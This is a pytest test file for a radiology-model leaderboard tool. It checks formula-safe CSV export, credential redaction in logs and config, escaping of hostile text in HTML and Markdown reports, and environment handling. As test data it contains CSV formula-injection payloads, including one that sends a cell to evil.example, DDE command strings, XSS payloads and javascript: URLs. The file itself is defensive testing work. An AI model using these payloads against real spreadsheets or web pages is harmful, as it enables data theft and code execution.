"""What radrank writes when the files it scores come from the people being ranked (issue 20, items 4, 5, 10,
11, 13): spreadsheet-safe CSVs, endpoint credentials kept out of logs and Snakemake's params, a report that
shows hostile texts as text, provenance that names the interpreter's environment, and a shared envs dir
that never silently swaps one checkout's code for another's."""

from __future__ import annotations

import base64
import csv
import json
import logging
import os
import re
import subprocess
import sys
import urllib.request
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest
import yaml

from radrank import envs, io, jobs, metrics, provenance

REPO = Path(__file__).resolve().parents[1]


# --- item 4: CSV outputs are spreadsheet-safe ---------------------------------------------------------------

HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
                 "-2+3+cmd|' /C calc'!A0", "-", "\tx", "Careful-CXR", "-0.5", "+3", "1e-3", "a\nb", ""]
# what a spreadsheet-safe exporter writes for each (OWASP: a leading apostrophe before = + - @ tab CR; a plain
# number is a number, not a formula)
WRITTEN = ['\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'@SUM(A1:A9)", "'+cmd|' /C calc'!A0",
           "'-2+3+cmd|' /C calc'!A0", "'-", "'\tx", "Careful-CXR", "-0.5", "+3", "1e-3", "a\nb", ""]


def _raw_rows(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_csv_text_cells_that_start_a_formula_get_an_apostrophe_numbers_stay_numbers(tmp_path):
    df = pd.DataFrame({"Model Name": HOSTILE_CELLS, "RadCliQ-v1": [-0.5] * len(HOSTILE_CELLS),
                       "n": pd.array([1] * (len(HOSTILE_CELLS) - 1) + [None], dtype="Int64"),
                       "=cmd|col": ["x"] * len(HOSTILE_CELLS)})
    io.write_csv(df, tmp_path / "board.csv")
    rows = _raw_rows(tmp_path / "board.csv")
    assert rows[0] == ["Model Name", "RadCliQ-v1", "n", "'=cmd|col"]  # a column name is a cell too
    assert [r[0] for r in rows[1:]] == WRITTEN
    assert {r[1] for r in rows[1:]} == {"-0.5"}  # a negative number in a numeric column stays a number
    assert [r[2] for r in rows[1:]] == ["1"] * (len(HOSTILE_CELLS) - 1) + [""]
    # radrank's own reader gives the texts back as written
    back = io.read_csv(tmp_path / "board.csv", dtype={"Model Name": str}, keep_default_na=False)
    assert list(back["Model Name"]) == HOSTILE_CELLS and list(back.columns) == list(df.columns)
    assert back["RadCliQ-v1"].tolist() == [-0.5] * len(HOSTILE_CELLS)
    assert list(df["Model Name"]) == HOSTILE_CELLS  # the caller's frame is not changed


def test_a_carriage_return_never_starts_a_row_of_its_own(tmp_path):
    """The csv module quotes a field with the line terminator (\\n) but not one with a bare CR, where readers
    end the row: the text after it would be a new row whose first cell is unchecked."""
    df = pd.DataFrame({"sample_id": ["\r=1", "x\r=HYPERLINK(1)", "y\r\nz"], "n": [1, 2, 3]})
    io.write_csv(df, tmp_path / "cr.csv")
    rows = _raw_rows(tmp_path / "cr.csv")
    assert rows == [["sample_id", "n"], ["\n=1", "1"], ["x\n=HYPERLINK(1)", "2"], ["y\nz", "3"]]
    assert len(pd.read_csv(tmp_path / "cr.csv")) == 3


def test_rewriting_a_safe_csv_read_as_plain_text_adds_nothing(tmp_path):
    """Stages that read a drop file with pandas and write it again (generation merge, ingest of generated
    drops) must not stack apostrophes."""
    io.write_csv(pd.DataFrame({"sample_id": HOSTILE_CELLS}), tmp_path / "a.csv")
    again = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
    io.write_csv(again, tmp_path / "b.csv")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


def test_leaderboard_and_drop_files_carry_hostile_names_as_text(tmp_path):
    from radrank.leaderboard import build_leaderboard

    summary = pd.DataFrame([{"model": m, "metric": "radcliq_v1", "label": "RadCliQ-v1", "higher_is_better": False,
                             "estimate": est, "ci_lower": est - 0.1, "ci_upper": est + 0.1, "n": 10}
                            for m, est in (("a", -0.5), ("b", 0.25))])
    drops = {"a": pd.DataFrame({"sample_id": ["=1+2"], "reason": ["empty_reference"], "action": ["dropped"],
                                "detail": ["@risk"]})}
    meta = {"a": {"name": '=HYPERLINK("http://evil.example","x")', "institution": "+cmd|x", "url": "-x"},
            "b": {"name": "@SUM(1)", "institution": "Lab", "url": "https://example.org/b"}}
    board = build_leaderboard(summary, drops, meta, rank_by="radcliq_v1")
    io.write_csv(board, tmp_path / "board.csv")
    io.write_csv(drops["a"], tmp_path / "a.drops.csv")
    rows = _raw_rows(tmp_path / "board.csv")
    by_model = {row["model"]: row for row in (dict(zip(rows[0], r)) for r in rows[1:])}
    assert by_model["a"]["Model Name"] == '\'=HYPERLINK("http://evil.example","x")'
    assert by_model["a"]["Institution"] == "'+cmd|x" and by_model["a"]["Model URL"] == "'-x"
    assert by_model["b"]["Model Name"] == "'@SUM(1)"
    assert by_model["a"]["RadCliQ-v1"] == "-0.5" and by_model["a"]["1/RadCliQ-v1"] == "-2.0"  # numbers, no "'"
    assert _raw_rows(tmp_path / "a.drops.csv")[1] == ["'=1+2", "empty_reference", "dropped", "'@risk"]


def test_every_csv_writer_goes_through_io_write_csv():
    """One place neutralises formulas: no other module of radrank writes CSV itself."""
    offenders = []
    for path in sorted((REPO / "src/radrank").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if path.name == "io.py" and path.parent.name == "radrank":
            assert text.count(".to_csv(") == 1  # write_csv's own
            continue
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", text):
            offenders.append(str(path.relative_to(REPO)))
    assert offenders == []


# --- item 5: endpoint credentials in logs and rule params ---------------------------------------------------

USER, PASSWORD, TOKEN, SIG = "alice-user", "pw-Secret-9f2c", "tok-7d1e5a", "sig-b44e01"
CREDENTIAL_URL = f"http://{USER}:{PASSWORD}@judge.example:8000/v1?api-version=2024-06&token={TOKEN}&sig={SIG}"
SECRETS = (USER, PASSWORD, TOKEN, SIG)


def _no_secret(text: str, secrets=SECRETS):
    found = [s for s in secrets if s in text]
    assert not found, f"{found} in {text[:2000]!r}"


def test_redact_url_removes_or_masks_credentials_only():
    assert provenance.redact_url(CREDENTIAL_URL, mask=None) == "http://judge.example:8000/v1?api-version=2024-06"
    assert provenance.redact_url(CREDENTIAL_URL) == \
        "http://***@judge.example:8000/v1?api-version=2024-06&token=***&sig=***"
    for plain in ("https://api.openai.com/v1", "http://127.0.0.1:8000/v1/", "https://h.example/v1?api-version=1"):
        assert provenance.redact_url(plain) == provenance.redact_url(plain, mask=None) == plain
    for name in ("token", "key", "api_key", "api-key", "access_token", "password", "secret", "sig",
                 "X-Amz-Signature", "client_secret"):
        assert provenance.redact_url(f"https://h/v1?{name}=v4lue", mask=None) == "https://h/v1", name


def test_endpoint_identity_and_rule_params_hold_no_credentials(tmp_path, monkeypatch):
    """The rule params Snakemake stores in .snakemake/metadata are the job's params(): the metric identity."""
    from radrank.workflow import Plan, read_config

    monkeypatch.chdir(REPO)
    config = yaml.safe_load((REPO / "config/config.yaml").read_text())
    config["metrics"] = ["bleu2", "mrscore_rubric"]
    config["metric_settings"] = {"mrscore_rubric": {"api_base": CREDENTIAL_URL, "model": "judge-model"}}
    path = tmp_path / "config.yaml"
    path.write_text(yaml.safe_dump(config))
    plan = Plan(read_config([path]), base_dir=REPO)
    rule = next(r for r in plan.score_rules() if r.metric == "mrscore_rubric")
    params = plan.score_job(rule).params()
    blob = json.dumps(params, default=str)
    _no_secret(blob)
    assert params["identity"]["settings"]["api_base"] == "http://judge.example:8000/v1?api-version=2024-06"
    _no_secret(json.dumps(plan.identity(), default=str))
    # the job the rule runs still talks to the endpoint as configured
    job = jobs.ScoreGroup.from_params(params, read_config([path]))
    assert job.settings.api_base == CREDENTIAL_URL
    # new credentials re-score nothing: same identity, same config hash
    other = json.loads(json.dumps(config))
    other["metric_settings"]["mrscore_rubric"]["api_base"] = CREDENTIAL_URL.replace(PASSWORD, "rotated-pw-1")
    path2 = tmp_path / "config2.yaml"
    path2.write_text(yaml.safe_dump(other))
    plan2 = Plan(read_config([path2]), base_dir=REPO)
    assert plan2.score_job(rule).params() == params and plan2.identity() == plan.identity()


@pytest.mark.parametrize("metric, key, extra", [
    ("crimson", "base_url", {"backend": "openai"}),
    ("radfact_ct", "base_url", {}),
])
def test_every_judge_url_setting_keeps_credentials_out_of_its_identity(metric, key, extra):
    s = metrics.configured(metric, {"metrics": [metric], "metric_settings": {metric: {key: CREDENTIAL_URL, **extra}}})
    assert getattr(s, key) == CREDENTIAL_URL
    ident = metrics.get(metric).identity(s)
    _no_secret(json.dumps(ident))
    assert ident["settings"][key] == "http://judge.example:8000/v1?api-version=2024-06"


def test_candidate_writer_identity_has_no_credentials():
    from radrank.mrscore_train.candidates import CandidateSettings

    s = CandidateSettings.build({"api_base": CREDENTIAL_URL})
    _no_secret(json.dumps(s.identity()))
    assert s.api_base == CREDENTIAL_URL


def test_job_log_and_console_mask_credentials_of_every_logger(tmp_path, capfd):
    """A configured endpoint's credentials are masked in every record: radrank's own, an HTTP client's request
    line (httpx / httpx2 log 'HTTP Request: POST <url> ...' at INFO), tracebacks."""
    metrics.configured("mrscore_rubric", {"metrics": ["mrscore_rubric"],
                                          "metric_settings": {"mrscore_rubric": {"api_base": CREDENTIAL_URL}}})
    log_path = tmp_path / "job.log"
    with jobs.job_log(log_path):
        logging.getLogger("httpx2").info('HTTP Request: %s %s "%s %d %s"', "POST",
                                         CREDENTIAL_URL.replace("/v1?", "/v1/chat/completions?"), "HTTP/1.1", 200,
                                         "OK")
        logging.getLogger("urllib3.connectionpool").warning('%s://%s:%s "%s %s %s" %s', "http", "judge.example",
                                                            8000, "POST", f"/v1/chat/completions?token={TOKEN}",
                                                            "HTTP/1.1", 200)
        logging.getLogger("radrank").warning("judge said: wrong password %s", PASSWORD)
        try:
            raise ConnectionError(f"cannot reach {CREDENTIAL_URL}")
        except ConnectionError:
            logging.getLogger("radrank").exception("rule score_mrscore_rubric failed")
    text = log_path.read_text()
    console = capfd.readouterr().err
    for out in (text, console):
        _no_secret(out)
        assert 'HTTP Request: POST http://***@judge.example:8000/v1/chat/completions?api-version=2024-06' in out
        assert "token=***" in out and "wrong password ***" in out
        assert "ConnectionError: cannot reach http://***@judge.example:8000/v1" in out  # the traceback's last line


class _Endpoint:
    """An OpenAI-compatible endpoint on 127.0.0.1 that records each request's path (query included) and
    headers; ``answer(body)`` returns the text, or (status, message)."""

    def __init__(self, answer):
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        seen = self.requests = []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_POST(self):
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                seen.append({"path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()}})
                result = answer(body)
                status, payload = ((result[0], {"error": {"message": result[1]}}) if isinstance(result, tuple)
                                   else (200, {"choices": [{"finish_reason": "stop",
                                                            "message": {"role": "assistant", "content": result}}],
                                               "usage": {"completion_tokens": 1}}))
                data = json.dumps(payload).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def port(self) -> int:
        return self.server.server_address[1]

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(5)


@pytest.fixture
def endpoint_env(monkeypatch):
    monkeypatch.setenv("RADRANK_TEST_ENDPOINT_KEY", "sk-test-0123456789abcdef")
    monkeypatch.setenv("NO_PROXY", "127.0.0.1,localhost")
    monkeypatch.setenv("no_proxy", "127.0.0.1,localhost")
    return "sk-test-0123456789abcdef"


def test_openai_generator_uses_the_credentials_and_shows_none(endpoint_env, monkeypatch, capfd):
    from radrank.runtime.generators import OpenAIGenerator

    # a process that turned on urllib's request printing (http.client writes "send: b'POST ...'" to stdout)
    monkeypatch.setattr(urllib.request, "_opener", urllib.request.build_opener(
        urllib.request.HTTPHandler(debuglevel=1), urllib.request.HTTPSHandler(debuglevel=1)))
    with _Endpoint(lambda body: "fine") as fake:
        port = fake.port
        url = CREDENTIAL_URL.replace("judge.example:8000", f"127.0.0.1:{port}")
        gen = OpenAIGenerator(model="judge-model", api_base=url, api_key_env="RADRANK_TEST_ENDPOINT_KEY",
                              max_retries=0)
        out = gen.generate([[{"role": "user", "content": "hello"}]])
    assert out[0].error is None and out[0].text == "fine"
    (request,) = fake.requests
    # the request itself carries them: the query as written, user and password as HTTP Basic authentication
    assert request["path"] == f"/v1/chat/completions?api-version=2024-06&token={TOKEN}&sig={SIG}"
    assert request["headers"]["authorization"] == "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
    shown = json.dumps([repr(gen), gen.api_base, gen.identity])
    _no_secret(shown, (*SECRETS, endpoint_env))
    assert gen.identity["api_base"] == f"http://127.0.0.1:{port}/v1?api-version=2024-06"
    captured = capfd.readouterr()
    _no_secret(captured.out + captured.err, (*SECRETS, endpoint_env))


def test_openai_generator_errors_mask_the_credentials(endpoint_env):
    from radrank.runtime.generators import OpenAIGenerator

    echo = f"denied: token {TOKEN}, password {PASSWORD}, key {endpoint_env}"
    with _Endpoint(lambda body: (401, echo)) as fake:
        url = f"http://{USER}:{PASSWORD}@127.0.0.1:{fake.port}/v1?token={TOKEN}"
        gen = OpenAIGenerator(model="m", api_base=url, api_key_env="RADRANK_TEST_ENDPOINT_KEY", max_retries=0)
        (g,) = gen.generate([[{"role": "user", "content": "hello"}]])
    assert g.error is not None and "HTTP 401" in g.error and "denied: token ***" in g.error
    _no_secret(g.error, (*SECRETS, endpoint_env))


def test_openai_generator_refuses_a_url_it_cannot_send(endpoint_env):
    from radrank.errors import ConfigError
    from radrank.runtime.generators import OpenAIGenerator

    with pytest.raises(ConfigError) as info:
        OpenAIGenerator(model="m", api_base=f"file://{USER}:{PASSWORD}@/etc/passwd",
                        api_key_env="RADRANK_TEST_ENDPOINT_KEY")
    assert "http(s)" in str(info.value)
    _no_secret(str(info.value))


# --- item 11: the report shows hostile texts as text ---------------------------------------------------------

EVIL_NAMES = ['<img src=x onerror=alert(1)>\x00Evil\x1b[31m\x07', "[click me](javascript:alert(1)) \u202eevil\u2066x\u200f",
              '=HYPERLINK("http://evil.example","x")']
EVIL_URLS = ["javascript:alert(document.cookie)", "https://example.org/ok (1)", "data:text/html,<script>x</script>"]
CONTROLS = ("\x00", "\x1b", "\x07")


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags, self.hrefs, self.text = [], [], []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.hrefs += [v for k, v in attrs if k in ("href", "src", "xlink:href")]

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    from synthetic import write_workflow_outputs

    root = tmp_path_factory.mktemp("hostile")
    layout = write_workflow_outputs(root, n_models=3, n_cases=24, metric_names=("bleu2", "rouge"), n_boot=40)
    entry = layout[0]
    board = io.read_csv(entry["leaderboard"])
    order = list(board["model"])
    for model, name, url in zip(order, EVIL_NAMES, EVIL_URLS):
        board.loc[board["model"] == model, ["Model Name", "Model URL"]] = [name, url]
    io.write_csv(board, entry["leaderboard"])
    first = order[0]
    drops = pd.DataFrame({"sample_id": ["<script>alert(1)</script>\x00"], "study_id": ["1"],
                          "reason": ["empty_reference"], "action": ["dropped"], "row": ["1"],
                          "detail": ["=cmd|x \x1b[2J"]})
    io.write_csv(drops, entry["models"][first]["drops"])
    pairs_path = entry["models"][first]["pairs"]
    pairs = io.read_parquet(pairs_path)
    pairs["hypothesis"] = "No effusion.\x00\x1b]8;;javascript:alert(1)\x07<b>bold</b>"
    io.write_parquet(pairs, pairs_path, io.read_provenance(pairs_path))
    out = root / "out"
    job = jobs.Report.of_layout(layout, bootstrap={"n": 40, "seed": 0, "level": 0.95}, empty_hypothesis="score",
                                cases=2)
    job.write(layout, [], jobs.Files(markdown=out / "report.md", html=out / "report.html", figures=out / "figures"))
    return out, board


def _pages(out) -> list:
    """The index, then every group's page."""
    return [out / "report.html", *sorted(p for p in out.glob("*.html") if p.name != "report.html")]


def test_report_files_hold_no_control_character(hostile_report):
    out, _ = hostile_report
    files = [out / "report.md", out / "appendix.md", *_pages(out), *sorted((out / "figures").rglob("*.svg"))]
    assert len(files) > 4 and len(_pages(out)) == 2
    for path in files:
        data = path.read_bytes()
        assert not re.search(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", data), path
    html = (out / "report.html").read_text()
    assert "\u2400Evil\u241b[31m\u2407" in html  # shown, as symbols: NUL, ESC, BEL


BIDI_CONTROLS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def test_report_files_hold_no_bidi_control(hostile_report):
    """A right-to-left override in a display name would reverse the rest of its cell (or line) in a viewer:
    every bidi control is shown as its escape, in every page and in report.md."""
    out, _ = hostile_report
    files = [out / "report.md", out / "appendix.md", *_pages(out)]
    for path in files:
        text = path.read_text()
        assert not any(c in text for c in BIDI_CONTROLS), path
    assert "\\u202eevil\\u2066x\\u200f" in (out / "report.html").read_text()  # shown, as its escape
    assert "\\\\u202eevil" in (out / "report.md").read_text()  # Markdown: the backslash escaped, shown as \u202e
    from radrank.report.page import visible

    assert visible(BIDI_CONTROLS) == "".join(f"\\u{ord(c):04x}" for c in BIDI_CONTROLS)


def test_every_character_made_visible_is_one_a_printable_text_lacks():
    """visible() returns a printable text as it is: that is only right if no printable character is one the
    report replaces (every code point checked, the scan's answer against the shortcut's)."""
    from radrank.report.page import _CONTROL, _picture, visible

    replaced = [c for c in map(chr, range(0x110000)) if _CONTROL.match(c)]
    assert replaced and not any(c.isprintable() for c in replaced)
    for c in replaced + ["a", "\t", "\n", "é", "\u00a0", "\u2028"]:
        assert visible(f"x{c}y") == _CONTROL.sub(_picture, f"x{c}y")


def test_report_markdown_has_no_html_and_links_only_to_http(hostile_report):
    out, _ = hostile_report
    md = (out / "report.md").read_text()
    assert not re.search(r"<[A-Za-z/!?]", md)  # no tag, comment or autolink (<javascript:...>) can open
    targets = re.findall(r"(?<!\\)\]\(([^)]*)\)", md)  # every inline link or image and where it goes
    assert targets and set(targets) == {"https://example.org/ok%20%281%29"}  # only the http(s) URL is linked
    assert "javascript:alert(document.cookie)" in md  # refused: shown as text after the name
    assert "&lt;img src=x onerror=alert(1)>\u2400Evil" in md
    assert "[click me\\](javascript:alert(1))" in md  # the name's link syntax, escaped
    appendix = (out / "appendix.md").read_text()  # the reporting appendix names every model too, and links nothing
    assert not re.search(r"<[A-Za-z/!?]", appendix) and not re.search(r"(?<!\\)\]\(", appendix)
    assert "&lt;img src=x onerror=alert(1)>\u2400Evil" in appendix and "[click me\\](javascript:alert(1))" in appendix


def test_report_html_shows_names_as_text_and_links_nowhere_else(hostile_report):
    out, _ = hostile_report
    pages = {path.name for path in _pages(out)}
    text = {}
    for path in _pages(out):
        parser = _Elements()
        parser.feed(path.read_text())
        assert "img" not in parser.tags and parser.tags.count("script") == 1, path  # the page's own script only
        # within the page, the report's own pages, images inside it, the CSV files beside it, and the one http(s)
        # model URL of the sheet (its link, escaped; javascript: and data: URLs are never links)
        bad = [h for h in parser.hrefs if not (h.startswith("#") or h.startswith("data:image/") or h.endswith(".csv")
                                               or h.split("#")[0] in pages or h == "appendix.md"
                                               or h == "https://example.org/ok%20%281%29")]
        assert bad == [], path
        text[path.name] = "".join(parser.text)
    index, group = text["report.html"], text[next(iter(pages - {"report.html"}))]
    assert "<img src=x onerror=alert(1)>\u2400Evil" in index and "<img src=x onerror=alert(1)>\u2400Evil" in group
    assert "<script>alert(1)</script>\u2400" in group  # the drop list's case id, as text
    assert "<b>bold</b>" in group  # a hypothesis' markup, as text


# --- item 13: provenance names the interpreter's environment -------------------------------------------------


def _venv(root: Path, family: str, key: str) -> Path:
    prefix = root / family
    prefix.mkdir(parents=True)
    (prefix / envs.STAMP).write_text(json.dumps({"family": family, "key": key}))
    return prefix


@pytest.mark.parametrize("launcher_env", [None, "core", "judge"])
def test_environment_is_the_venvs_whatever_started_snakemake(tmp_path, monkeypatch, launcher_env):
    """`make` / envs.py snakemake export RADRANK_ENV=core, plain .venvs/core/bin/snakemake does not; an
    inherited variable may even name another family. The record is the venv's either way."""
    monkeypatch.setattr(sys, "prefix", str(_venv(tmp_path, "core", "0123456789abcdef")))
    if launcher_env is None:
        monkeypatch.delenv("RADRANK_ENV", raising=False)
    else:
        monkeypatch.setenv("RADRANK_ENV", launcher_env)
    env = provenance.environment()
    assert env["env"] == "core" and env["lock_key"] == "0123456789abcdef"


def test_environment_of_a_conda_env_and_of_anything_else(tmp_path, monkeypatch):
    conda = tmp_path / "conda-env"
    (conda / "conda-meta").mkdir(parents=True)
    monkeypatch.setattr(sys, "prefix", str(conda))
    monkeypatch.setenv("RADRANK_ENV", "core")  # what activating envs/core.yaml sets
    assert provenance.environment()["env"] == "core"
    assert provenance.environment()["lock_key"] == envs.read_spec("core").key(None)
    plain = tmp_path / "some-python"
    plain.mkdir()
    monkeypatch.setattr(sys, "prefix", str(plain))
    assert provenance.environment()["env"] == "unmanaged" and provenance.environment()["lock_key"] is None


def test_both_documented_routes_record_the_same_environment():
    """This interpreter with and without RADRANK_ENV=core (envs.py snakemake vs plain .venvs/core/bin/snakemake)."""
    code = "import json; from radrank import provenance; print(json.dumps(provenance.environment(), sort_keys=True))"
    base = {k: v for k, v in os.environ.items() if k != "RADRANK_ENV"}
    base["PYTHONPATH"] = str(REPO / "src")
    seen = [subprocess.run([sys.executable, "-c", code], env=env, cwd=REPO, capture_output=True, text=True,
                           check=True).stdout for env in (base, {**base, "RADRANK_ENV": "core"})]
    assert seen[0] == seen[1]
    stamp = Path(sys.prefix) / envs.STAMP
    if stamp.exists():  # the core venv's own tests: the record names it
        assert json.loads(seen[0])["env"] == json.loads(stamp.read_text())["family"]


# --- item 10: one venv, one checkout -------------------------------------------------------------------------


@pytest.fixture
def shared_envs(tmp_path, monkeypatch):
    """An envs dir outside this checkout whose core venv has another, existing checkout installed."""
    other = tmp_path / "other-clone"
    (other / "src/radrank").mkdir(parents=True)
    (other / "pyproject.toml").write_text("[project]\nname = 'radrank'\n")
    shared = tmp_path / "shared-envs"
    info = shared / "core/lib/python3.11/site-packages/radrank-0.1.0.dist-info"
    info.mkdir(parents=True)
    (info / "direct_url.json").write_text(json.dumps({"url": other.as_uri(), "dir_info": {"editable": True}}))
    monkeypatch.setenv("RADRANK_ENVS_DIR", str(shared))
    monkeypatch.delenv(envs.REPOINT_VAR, raising=False)
    calls = []
    monkeypatch.setattr(envs, "run", lambda cmd, env=None, quiet=False: calls.append(cmd) or "")
    monkeypatch.setattr(envs, "find_uv", lambda bootstrap=True: "uv")
    return {"other": other, "shared": shared, "calls": calls}


def test_a_venv_another_checkout_uses_is_not_repointed(shared_envs, capsys):
    assert envs.installed_checkout("core") == shared_envs["other"]
    with pytest.raises(envs.EnvError) as info:
        envs.install_project("core")
    message = str(info.value)
    assert str(shared_envs["other"]) in message and str(envs.REPO) in message and envs.REPOINT_VAR in message
    assert shared_envs["calls"] == []  # nothing installed


def test_the_build_command_stops_with_the_reason(shared_envs, capsys):
    core = shared_envs["shared"] / "core"
    (core / "bin").mkdir()
    (core / "bin/python").write_text("")
    (core / envs.STAMP).write_text(json.dumps({"family": "core", "key": envs.read_spec("core").key(None)}))
    assert envs.main(["build", "core"]) == 1
    err = capsys.readouterr().err
    assert f"runs the checkout {shared_envs['other']}" in err and shared_envs["calls"] == []


def test_repointing_is_asked_for_or_the_other_checkout_is_gone(shared_envs, monkeypatch, capsys):
    monkeypatch.setenv(envs.REPOINT_VAR, "1")
    envs.install_project("core")
    assert shared_envs["calls"][-1][-2:] == ["--editable", str(envs.REPO)]
    assert f"re-pointing {shared_envs['shared'] / 'core'} from the checkout {shared_envs['other']}" in \
        capsys.readouterr().err
    monkeypatch.delenv(envs.REPOINT_VAR)
    (shared_envs["other"] / "pyproject.toml").unlink()  # that clone was deleted
    envs.install_project("core")
    assert len(shared_envs["calls"]) == 2 and "that checkout is gone" in capsys.readouterr().err


def test_a_copied_venvs_inside_this_checkout_is_its_own(shared_envs, tmp_path, monkeypatch, capsys):
    """A checkout copied with its .venvs (a CI copy): the venv is this checkout's, re-pointed with a line."""
    this = tmp_path / "copy"
    (this / "src/radrank").mkdir(parents=True)
    (this / "pyproject.toml").write_text("[project]\nname = 'radrank'\n")
    own = this / ".venvs"
    (own / "core").mkdir(parents=True)
    (shared_envs["shared"] / "core/lib").rename(own / "core/lib")
    monkeypatch.setattr(envs, "REPO", this)
    monkeypatch.setenv("RADRANK_ENVS_DIR", str(own))
    envs.install_project("core")
    assert shared_envs["calls"][-1][-1] == str(this)
    assert "it is this checkout's own" in capsys.readouterr().err
